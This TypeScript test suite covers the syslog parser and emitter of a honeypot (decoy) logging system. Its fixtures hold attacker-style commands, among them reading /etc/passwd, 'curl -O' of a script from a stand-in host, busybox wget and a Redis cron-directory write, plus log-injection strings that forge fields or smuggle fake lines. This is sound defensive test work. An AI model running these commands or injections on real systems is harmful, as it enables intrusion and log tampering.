import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { analysisFields } from '../../protocols/command_fields.ts'
import { formatDecnetLine } from '../../protocols/decnet_emit.ts'
import { MAX_LINE_BYTES, parseDecnetLine } from '../../protocols/decnet_log.ts'
import { SyslogError } from '../../protocols/protocol_error.ts'
import { LOG_VECTORS } from './log_vectors.ts'

const RECEIVED = Date.UTC(2026, 2, 1, 12)
const parse = (line: string, decky?: string) =>
  parseDecnetLine(line, { receivedAt: RECEIVED, decky })
const recordOf = (line: string, decky?: string) => parse(line, decky).record
const withData = (data: string) =>
  recordOf(`<134>1 2026-03-01T09:00:00Z web-01 http - request ${data}`)
const sheet = (number: number): string => LOG_VECTORS[number - 1]?.[0] ?? ''

describe('the sheet', () => {
  it.each(LOG_VECTORS.map((vector, index) => ({ number: index + 1, vector })))(
    'line $number',
    ({ vector: [line, decky, service, event_type, attacker_ip, count] }) => {
      const record = recordOf(line)
      expect(record).toMatchObject({ decky, service, event_type, attacker_ip, raw_line: line })
      expect(Object.keys(record.fields)).toHaveLength(count)
      expect(record.kind).toBe(service === 'mutator' ? 'mutation' : 'attacker')
      // They carry their number as their second, but for the last three.
      expect(record.timestamp).toMatch(/^2026-03-01 09:0[01]:\d\d$/)
    },
  )

  it('decodes what the table names', () => {
    const fieldsOf = (number: number) => recordOf(sheet(number)).fields
    expect(Buffer.from(fieldsOf(1).secret_b64 ?? '', 'base64').toString()).toBe('hunter2')
    expect(JSON.parse(fieldsOf(9).headers ?? '')).toMatchObject({ 'User-Agent': 'curl/8.5.0' })
    expect(fieldsOf(10)).toMatchObject({
      headers_ordered: '["host", "user-agent"]',
      remote_port: '50300',
    })
    expect(fieldsOf(11)).toMatchObject({
      frame_order: '["SETTINGS", "WINDOW_UPDATE"]',
      remote_port: '50301',
    })
    expect(fieldsOf(15).args).toBe("['SET', 'dir', '/var/spool/cron']")
    expect(fieldsOf(20).principal).toBe('CORP\\alice')
    expect(fieldsOf(22)).toMatchObject({ oids: "['1.3.6.1.2.1.1.5.0']", secret_b64: 'cHVibGlj' })
    expect(recordOf(sheet(31)).msg).toBe('TCPFP 198.51.100.7:22 = b1e01590')
    expect(fieldsOf(34).new_services).toBe('')
    expect(recordOf(sheet(35)).msg).toBe('SMTP server starting as mail-05 (relay)')
    expect(fieldsOf(38).path).toBe('/x] src=8.8.8.8 ')
  })

  it('shows analysis the command that stands in MSG', () => {
    const common = { uid: '0', user: 'root', src: '198.51.100.7' }
    expect(analysisFields(recordOf(sheet(2)))).toEqual({
      ...common,
      pwd: '/root',
      command: 'cat /etc/passwd',
    })
    expect(analysisFields(recordOf(sheet(3)))).toEqual({
      ...common,
      pwd: '/tmp',
      command: 'curl -O http://files.example/x.sh',
    })
    expect(analysisFields(recordOf(sheet(6)))).toEqual({
      uid: '0',
      pwd: '/',
      command: 'busybox wget',
    })
    expect(analysisFields(recordOf(sheet(15)))).toEqual(recordOf(sheet(15)).fields)
  })

  it('has the keys in order', () => {
    const keys = 'timestamp decky service event_type attacker_ip fields msg raw_line kind'
    expect(Object.keys(recordOf(sheet(1)))).toEqual(keys.split(' '))
  })
})

describe('a command line', () => {
  const fields = (msg: string, own: Record<string, string> = {}) =>
    analysisFields({ event_type: 'command', fields: own, msg })

  it('is split at the first cmd=, and a directory may hold blanks', () => {
    expect(fields('CMD uid=0 pwd=/tmp/my dir src=8.8.8.8 cmd=echo cmd=1  2')).toEqual({
      uid: '0',
      pwd: '/tmp/my dir src=8.8.8.8',
      command: 'echo cmd=1  2',
    })
    expect(fields('CMD cmd=ls')).toEqual({ command: 'ls' })
    expect(fields('CMD uid=0 shell=sh')).toEqual({ uid: '0' })
  })

  it('never overrides a field', () => {
    expect(fields('CMD uid=0 cmd=ls', { command: 'w' })).toEqual({ uid: '0', command: 'w' })
  })

  it('makes a command of a line without a message id only', () => {
    const line = (id: string) => `<14>1 2026-03-01T09:00:00Z web-01 bash - ${id} - CMD uid=0 cmd=id`
    expect(recordOf(line('-')).event_type).toBe('command')
    expect(recordOf(line('note')).event_type).toBe('note')
  })
})

describe('time', () => {
  const at = (stamp: string) => parse(`<134>1 ${stamp} web-01 http - request -`)

  it('is that of the header, in UTC and to the microsecond', () => {
    const line = at('2026-03-01T11:00:00.123456+02:00')
    expect(line.record.timestamp).toBe('2026-03-01 09:00:00')
    expect(line.time).toBe(1772355600123.456)
    expect(at('2026-03-01T09:00:00').record.timestamp).toBe('2026-03-01 09:00:00')
  })

  it.each(['-', 'yesterday', '2026-02-30T00:00:00Z', '2016-12-31T23:59:60Z', '1e9'])(
    'is that of arrival where the header says %s',
    (stamp) => {
      const { time, record } = at(stamp)
      expect(time).toBe(RECEIVED)
      expect(record.timestamp).toBe('2026-03-01 12:00:00')
      expect(record.raw_line).toContain(` ${stamp} `)
    },
  )
})

describe('the header', () => {
  it.each([
    ['', 'an empty line'],
    ['plain text', 'text'],
    [' <134>1 2026-03-01T09:00:00Z h a - e -', 'a leading blank'],
    ['<>1 2026-03-01T09:00:00Z h a - e -', 'no PRI'],
    ['<1345>1 2026-03-01T09:00:00Z h a - e -', 'four digits'],
    ['<1a>1 2026-03-01T09:00:00Z h a - e -', 'a letter in PRI'],
    ['<134>2 2026-03-01T09:00:00Z h a - e -', 'another version'],
    ['<134>12026-03-01T09:00:00Z h a - e - -', 'no blank after the version'],
    ['<134>1 2026-03-01T09:00:00Z h a - e', 'nothing after six tokens'],
    ['<134>1 2026-03-01T09:00:00Z h a - e   ', 'blanks after six tokens'],
    ['<134>1 2026-03-01T09:00:00Z h  - e - -', 'an empty token'],
    ['<134>1 2026-03-01T09:00:00Z h\n<134>1 a - e -', 'a line end in a token'],
    ['<134>1 2026-03-01T09:00:00Z h a\u0000 - e -', 'a NUL in a token'],
  ])('of %j is refused: %s', (line) => {
    expect(() => parse(line)).toThrow(expect.objectContaining({ code: 'SYSLOG_HEADER' }))
    expect(() => parse(line)).toThrow(SyslogError)
  })

  it('may have any PRI of three digits and a process id', () => {
    expect(recordOf('<999>1 2026-03-01T09:00:00Z h sshd 940 e - hi  \r')).toMatchObject({
      service: 'sshd',
      msg: 'hi',
    })
  })

  it('is cut to what emitters may write', () => {
    const long = (length: number) => 'x'.repeat(length)
    const record = recordOf(`<1>1 - ${long(300)} ${long(60)} - ${long(40)} -`)
    const { decky, service, event_type } = record
    expect([decky, service, event_type]).toEqual([long(255), long(48), long(32)])
  })

  it('inside another is read only where the outer one has no message id', () => {
    const inner = '2026-03-01T10:00:00Z other bash - note - hello'
    expect(recordOf(`<14>1 2026-03-01T09:00:00Z web-01 1 - - -  ${inner}`)).toMatchObject({
      timestamp: '2026-03-01 09:00:00',
      decky: 'other',
      service: 'bash',
      event_type: 'note',
      msg: 'hello',
    })
    expect(recordOf(`<14>1 2026-03-01T09:00:00Z web-01 http - request - ${inner}`)).toMatchObject({
      decky: 'web-01',
      event_type: 'request',
      msg: inner,
    })
  })
})

describe('structured data', () => {
  it.each<[string, Record<string, string>, string]>([
    ['[relay@55555 a="1" b="2"', { a: '1', b: '2' }, 'the end of the element is missing'],
    ['[relay@55555 a="1" b="2', { a: '1' }, 'a value is not closed'],
    ['[relay@55555 a="1" b="2\\"]', { a: '1' }, 'its end is escaped'],
    ['[relay@55555 a="1" b', { a: '1' }, 'a name is cut'],
    ['[relay@55555 a="1" b=', { a: '1' }, 'a name has no value'],
    ['[relay@55555 a="1" b=2] src=8.8.8.8', { a: '1' }, 'a value has no quotes'],
    ['[relay@55555 a="1"b="2"] src=8.8.8.8', { a: '1' }, 'a blank is missing'],
    ['[relay@5555', {}, 'the id is cut'],
    ['[', {}, 'there is nothing else'],
  ])('%s keeps what was closed: %j, where %s', (data, fields) => {
    expect(withData(data)).toMatchObject({ fields, msg: '', attacker_ip: 'Unknown' })
  })

  it.each([
    ['[other@1 src="8.8.8.8"] hi', {}, 'hi'],
    ['[timeQuality tzKnown="1"][relay@55555 a="1"] hi', { a: '1' }, 'hi'],
    ['[relay@55555 a="1"][relay@55555 a="2" b="3"]  hi ', { a: '2', b: '3' }, 'hi'],
    ['[relay@55555 a-b.c="1"]', { 'a-b.c': '1' }, ''],
    ['[relay@55555 a="x] src=8.8.8.8"] hi', { a: 'x] src=8.8.8.8' }, 'hi'],
    ['[other@1 a="[relay@55555 b=\\"1\\"\\]"] hi', {}, 'hi'],
    ['[relay@55555] hi', {}, 'hi'],
    ['-', {}, ''],
    ['-\ufeffhi', {}, 'hi'],
    ['no data at all', {}, 'no data at all'],
  ])('%s gives %j and %j', (data, fields, msg) => {
    const record = withData(data)
    expect(record.fields).toEqual(fields)
    expect(record.msg).toBe(msg)
  })

  it('keeps a parameter called __proto__, and nothing else changes by it', () => {
    const { fields } = withData('[relay@55555 __proto__="x" constructor="y" src_ip="198.51.100.7"]')
    expect(Object.entries(fields)).toEqual([
      ['__proto__', 'x'],
      ['constructor', 'y'],
      ['src_ip', '198.51.100.7'],
    ])
    expect(Object.getPrototypeOf(fields)).toBe(Object.prototype)
  })
})

describe('a container whose decoy is known', () => {
  const LINE = '<14>1 2026-03-01T09:00:00Z payroll-db bash - command - CMD uid=0 cmd=id'

  it('is believed over the host name in the line', () => {
    const record = recordOf(LINE, 'web-01')
    expect(record.decky).toBe('web-01')
    expect(record.fields).toEqual({ reported_host: 'payroll-db' })
    expect(recordOf(LINE, 'payroll-db').fields).toEqual({})
  })

  it('fills in a missing host name', () => {
    const record = recordOf('<14>1 2026-03-01T09:00:00Z - http - request -', 'web-01')
    expect(record).toMatchObject({ decky: 'web-01', fields: {} })
  })

  it('is believed over a wrapped header as well', () => {
    const record = recordOf(sheet(2), 'web-09')
    expect(record).toMatchObject({ decky: 'web-09', fields: { reported_host: 'web-01' } })
  })

  it('makes one record of a body with a fake line in it', () => {
    const fake = '<134>1 2026-03-01T09:00:00Z payroll-db bash - - - CMD uid=0 src=8.8.8.8 cmd=id'
    const line =
      '<134>1 2026-03-01T09:00:00Z web-01 http - request ' +
      `[relay@55555 body="x\n${fake}" remote_addr="198.51.100.7"]`
    expect(recordOf(line, 'web-01')).toMatchObject({
      decky: 'web-01',
      event_type: 'request',
      attacker_ip: '198.51.100.7',
      fields: { body: `x\n${fake}` },
    })
  })
})

describe('a long line', () => {
  const HEAD = '<134>1 2026-03-01T09:00:00Z web-01 http - request [relay@55555 src="198.51.100.7"'
  const line = (length: number) =>
    `${HEAD} body="`.padEnd(length - '"] hi'.length, 'x').concat('"] hi')

  it('is read whole at the limit', () => {
    expect(recordOf(line(MAX_LINE_BYTES)).msg).toBe('hi')
  })

  it('is read as far as the limit above it, and kept whole', () => {
    const long = line(MAX_LINE_BYTES + 1)
    const { msg, raw_line, attacker_ip } = recordOf(long)
    expect(msg).toBe('h')
    expect(raw_line === long).toBe(true)
    expect(attacker_ip).toBe('198.51.100.7')
    expect(Object.keys(recordOf(line(MAX_LINE_BYTES + 6)).fields)).toEqual(['src'])
    const longer = `${HEAD}] ${'ü'.repeat(MAX_LINE_BYTES)}`
    expect(Buffer.byteLength(recordOf(longer).msg)).toBeLessThanOrEqual(MAX_LINE_BYTES)
  })
})

it('cut anywhere, a line gives the parameters that were closed or is refused', () => {
  const line = sheet(10)
  const whole = recordOf(line)
  for (let length = 0; length < line.length; length++) {
    const cut = line.slice(0, length)
    if (length <= line.indexOf('[')) {
      expect(() => parse(cut)).toThrow(SyslogError)
      continue
    }
    const { fields, msg } = recordOf(cut)
    expect(msg).toBe('')
    expect(whole.fields).toMatchObject(fields)
  }
})

describe('what we write', () => {
  it('is read back as it was, control characters aside', () => {
    const clean = (text: string) =>
      text.toWellFormed().replace(/\p{Cc}/gu, (c) => (c < '\x80' ? '?' : c))
    const value = fc.string({ unit: 'binary', maxLength: 30 })
    const names = fc.stringMatching(/^[A-Za-z0-9_]{1,20}$/)
    const params = fc.dictionary(names, value, { maxKeys: 8, noNullPrototype: true })
    fc.assert(
      fc.property(params, value, (written, msg) => {
        const line = formatDecnetLine({
          micros: 1772355600123456,
          hostname: 'web-01',
          service: 'http',
          eventType: 'request',
          params: written,
          msg,
        })
        expect(line).not.toMatch(/[\n\r\0]/)
        const { time, record } = parse(line)
        expect(time).toBe(1772355600123.456)
        const expected = Object.entries(written).map(([name, text]) => [name, clean(text)])
        expect(record.fields).toMatchObject(Object.fromEntries(expected))
        expect(record.msg).toBe(clean(msg).trim())
      }),
      { numRuns: 1000 },
    )
  })

  it('has the form of the profile', () => {
    const line = formatDecnetLine({
      micros: 1772355600123456,
      hostname: '',
      service: 'a b',
      eventType: 'x'.repeat(40),
      params: { list: ['a', 'b]'], yes: true, none: null, n: 0, quote: 'back\\slash" and \\" end' },
      msg: 'two\nlines',
      severity: 4,
    })
    expect(line).toBe(
      `<132>1 2026-03-01T09:00:00.123456+00:00 - a?b - ${'x'.repeat(32)} [relay@55555 ` +
        'list="a,b\\]" yes="true" n="0" quote="back\\\\slash\\" and \\\\\\" end"] two?lines',
    )
    expect(recordOf(line).fields.quote).toBe('back\\slash" and \\" end')
  })

  it('refuses a parameter name that could break out', () => {
    const content = { micros: 0, hostname: 'h', service: 's', eventType: 'e' }
    expect(() => formatDecnetLine({ ...content, params: { 'a="b" c': 'd' } })).toThrow(SyslogError)
    expect(formatDecnetLine({ ...content, params: { a: null } })).toMatch(/ e -$/)
  })
})
